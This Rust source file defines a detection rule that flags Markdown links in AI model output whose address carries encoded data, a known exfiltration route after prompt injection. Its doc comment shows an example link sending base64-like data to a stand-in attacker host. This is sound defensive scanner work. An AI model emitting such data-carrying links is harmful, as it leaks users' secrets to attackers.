//! # What it finds
//! A Markdown link whose address carries data.
//!
//! # Why it matters
//! A link needs a click, and previews often click by themselves.
//!
//! # Example
//! `[click here](https://evil.example/?d=U2VjcmV0...)`
//!
//! # Limits and sources
//! Scores lower than an image, because somebody has to follow it.

use super::carry;
use crate::rule::{Anchor, Candidate, Exact, Family, Hit, Matcher, Rule};

/// See the [module](self).
pub const RULE: Rule = Rule {
    id: "EX002",
    name: "link-data",
    family: Family::Link,
    category: "link.anchor",
    tags: &["owasp:LLM02", "owasp:LLM05", "owasp-agentic:ASI02", "atlas:AML.T0077"],
    matcher: Matcher::Exact(Exact {
        pattern: r"(?i)\]\( ?<?(?:https?:)?//[^ )\n]{1,2048}",
        anchor: Anchor::Literals(&["]("]),
        longest: 2090,
        verify,
    }),
};

/// A link waits for a click.
const CLICK: f32 = 0.1;

fn verify(candidate: &Candidate<'_>) -> Option<Hit> {
    let is_image = candidate.before().rsplit('[').nth(1).is_some_and(|before| before.ends_with('!'))
        || candidate.before().rfind('[').is_some_and(|at| candidate.before()[..at].ends_with('!'));
    if is_image {
        return None;
    }
    let hit = carry::payload(carry::address_in(candidate.matched()))?;
    Some(Hit { score: hit.score - CLICK, ..hit })
}
